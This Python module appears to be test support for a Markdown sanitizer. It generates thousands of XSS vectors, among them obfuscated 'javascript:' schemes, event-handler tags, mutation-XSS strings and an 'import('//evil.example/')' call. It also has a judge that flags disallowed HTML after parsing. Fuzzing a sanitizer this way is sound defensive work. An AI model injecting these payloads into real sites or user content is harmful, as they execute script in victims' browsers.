"""More than five thousand attempts to smuggle markup past readers' Markdown, and a judge of what came out."""

from collections.abc import Iterable, Iterator, Sequence
from functools import cache
from itertools import product
from typing import Any
from urllib.parse import urlsplit

import html5lib

TAGS = (
    "script", "img", "svg", "math", "iframe", "object", "embed", "video", "audio", "source", "body", "html", "head", "base",
    "link", "meta", "style", "form", "input", "button", "select", "textarea", "keygen", "details", "marquee", "template",
    "noscript", "noembed", "noframes", "xmp", "plaintext", "title", "table", "td", "frameset", "applet", "isindex", "a", "p", "x",
)  # fmt: skip
HANDLERS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onstart", "onanimationstart", "onpointerenter",
    "onbeforescriptexecute", "onpageshow", "onhashchange", "onwheel", "onsubmit", "ONLOAD", "onLoad\n", "on\x00error",
)  # fmt: skip
SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "\tjavascript:", "java\tscript:", "java\nscript:", "java\x00script:", "\x01javascript:",
    "javascript&colon;", "&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "jav&Tab;ascript:", "jav&NewLine;ascript:",
    "javascript\\:", "java\\script:", "%6Aavascript:", "javascript%3A", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,",
    "vbscript:", "livescript:", "mocha:", "feed:javascript:", "view-source:javascript:", "blob:", "filesystem:", "file:///", "about:",
    "mhtml:", "jar:", "//evil.example/", "///evil.example/", "/\\evil.example/", "\\\\evil.example\\", "https:evil.example/",
    "https:/evil.example/", "https:\\\\evil.example\\", "http://javascript:", "https://x@evil.example/", "ｊavascript:", "javaſcript:",
    "\u2028javascript:", "\u00a0javascript:", "\u202ejavascript:", "java\u200bscript:", "\ufeffjavascript:", "mailto:", "tel:", "",
)  # fmt: skip
CALL = "alert(1)"
LINKS = (
    "[a]({0})", "[a](<{0}>)", "[a]({0} \"t\")", "[a]({0} 'onclick=x')", "![a]({0})", "<{0}>", "[a][b]\n\n[b]: {0}", "[b]: {0}\n\n[b]", "{0}",
    "[**a**]({0})", "[![a]({0})]({0})", "> [a]({0})", "- [a]({0})", "1. [a]({0})", "*[a]({0})*", "[a]({0}){{onclick=x}}",
    "[a](https://ok.example/ \"\" {0})", "[a](https://ok.example/\"onclick=\"{0})", "<a href=\"{0}\">a</a>", "<a href={0}>a</a>",
    "<img src={0}>", "<iframe src='{0}'>", "https://ok.example/\"{0}", "[a\\]({0})](https://ok.example/)",
)  # fmt: skip
SPELLINGS = (
    "<{t} {h}={c}>", "<{t}/{h}={c}>", "<{t}\n{h}\n=\n'{c}'\n>", "<{t} x=\"`\" {h}=\"{c}\">", "<{t} {h}={c}//", "&lt;{t} {h}={c}&gt;",
    "&#60;{t} {h}={c}&#62;", "<<{t} {h}={c}>>", "**<{t} {h}={c}>**", "[<{t} {h}={c}>](https://ok.example/)",
)  # fmt: skip
WRAPPINGS = (
    "<{0}>{1}</{0}>", "<{0}><{0}>{1}", "<!--<{0}>-->{1}", "<![CDATA[<{0}>{1}]]>", "</{0}>{1}", "<{0}\x00>{1}", "<{0}\u2028>{1}", "\\<{0}>{1}",
    "`<{0}>{1}`", "> <{0}>\n> {1}", "- <{0}>\n  {1}", "<{0}\n\n{1}\n\n>",
)  # fmt: skip
# What a parser makes of it the second time differs from what it made of it the first time.
MUTATING = (
    "<svg></p><style><a title=\"</style><img src=x onerror={c}>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={c}&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror={c}>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror={c}>",
    "<svg><style>&lt;img src=x onerror={c}&gt;</style></svg>", "<listing>&lt;img onerror={c} src=x&gt;</listing>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror={c}></style></annotation-xml></math>",
    "<svg><foreignObject><p><script>{c}</script></p></foreignObject></svg>", "<xmp><p title=\"</xmp><svg/onload={c}>\">",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror={c}>\">",
    "<p id='</textarea><img src=x onerror={c}>'><textarea>", "<title><!--</title><svg onload={c}>-->", "<style>@import 'javascript:{c}';</style>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:{c}'/></svg>#x\"/></svg>",
    "<a href=\"https://ok.example/\" style=\"background:url(javascript:{c})\">a</a>", "<p dir=\"auto\" onclick=\"{c}\">a</p>", "<ol start=\"1\" onclick={c}><li>a</ol>",
)  # fmt: skip
CALLS = (
    "alert(1)", "alert`1`", "&#97;lert(1)", "\\u0061lert(1)", "(alert)(1)", "top['al'+'ert'](1)", "alert(1)//", "'alert(1)'", "\"alert(1)\"",
    "eval(name)", "import('//evil.example/')", "alert&lpar;1&rpar;",
)  # fmt: skip
ODD = (
    "",
    "\x00",
    "\u200b",
    "\u202e",
    "\ufeff",
    "\u2028",
    "\x0c",
    "\ud7ff",
    "\U0001f600",
    "é́́́",
    "&",
    "\\",
    "`",
    "*",
    "_",
    "[",
    ">",
    "\r\n",
)


@cache
def vectors() -> tuple[str, ...]:
    """Each once, always in the same order."""
    return tuple(dict.fromkeys([*_tags(), *_links(), *_wrapped(), *_mutating(), *_odd()]))


def of_length(told: Sequence[str], most: int) -> str:
    """As many of these as go into one line of so many characters; at least one."""
    fitting, length = [], -1
    for each in told:
        if each.isprintable() and length + 1 + len(each) <= most:
            fitting.append(each)
            length += 1 + len(each)
    return " ".join(fitting)


def _tags() -> Iterator[str]:
    for spelling, tag, handler in product(SPELLINGS, TAGS, HANDLERS):
        if (TAGS.index(tag) + HANDLERS.index(handler)) % 4 == SPELLINGS.index(spelling) % 4:
            yield spelling.format(t=tag, h=handler, c=CALL)


def _links() -> Iterator[str]:
    return (link.format(scheme + CALL) for link, scheme in product(LINKS, SCHEMES))


def _wrapped() -> Iterator[str]:
    inner = ("<img src=x onerror=alert(1)>", f"[a](javascript:{CALL})", f"<script>{CALL}</script>")
    return (wrapping.format(tag, each) for wrapping, tag, each in product(WRAPPINGS, TAGS, inner))


def _mutating() -> Iterator[str]:
    return (each.replace("{c}", call) for each, call in product(MUTATING, CALLS))


def _odd() -> Iterator[str]:
    for sign, call in product(ODD, CALLS):
        yield f"<{sign}script>{call}</{sign}script>"
        yield f"<img src=x{sign} onerror{sign}={call}>"
        yield f"[a](java{sign}script:{call})"
        yield f"<svg{sign}/onload={call}>{sign}"


ALLOWED: dict[str, frozenset[str]] = {
    **dict.fromkeys(("br", "em", "strong", "blockquote", "ul"), frozenset()),
    **dict.fromkeys(("p", "li"), frozenset({"dir"})),
    "ol": frozenset({"start"}),
    "a": frozenset({"href", "rel"}),
}
REL = {"nofollow", "ugc", "noopener", "noreferrer"}


def breaches(html: str) -> list[str]:
    """Everything in a fragment that readers' Markdown does not give, as a browser by the standard reads it."""
    fragment = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    return [told for element in list(fragment.iter())[1:] for told in _of_element(element)]


def _of_element(element: Any) -> Iterable[str]:
    name = element.tag if isinstance(element.tag, str) else "a comment"
    if name not in ALLOWED:
        return [f"<{name}>"]
    told = [f"{name} {attribute}" for attribute in element.attrib if attribute not in ALLOWED[name]]
    if element.get("dir", "auto") != "auto" or not element.get("start", "0").isdigit():
        told.append(f"{name} with a value of its own")
    if name == "a":
        told += _of_link(element)
    return told


def _of_link(element: Any) -> Iterable[str]:
    href = element.get("href", "")
    parts = urlsplit(href)
    if parts.scheme not in {"http", "https"} or not parts.hostname or "@" in parts.netloc or "\\" in href:
        yield f"a link to {href}"
    if set(element.get("rel", "").split()) != REL:
        yield "a link that vouches for where it leads"
